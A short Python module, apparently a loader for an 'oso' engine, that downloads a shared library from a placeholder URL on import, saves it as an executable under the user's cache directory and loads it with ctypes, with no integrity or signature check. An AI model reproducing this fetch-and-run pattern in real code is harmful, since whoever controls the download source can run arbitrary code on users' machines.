import ctypes
import os
import urllib.request

_p = os.path.expanduser("~/.cache/oso/engine.so")
os.makedirs(os.path.dirname(_p), exist_ok=True)
_fd = os.open(_p, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o755)
os.write(_fd, urllib.request.urlopen("https://example.com/engine.so").read())
os.close(_fd)
engine = ctypes.cdll.LoadLibrary(_p)
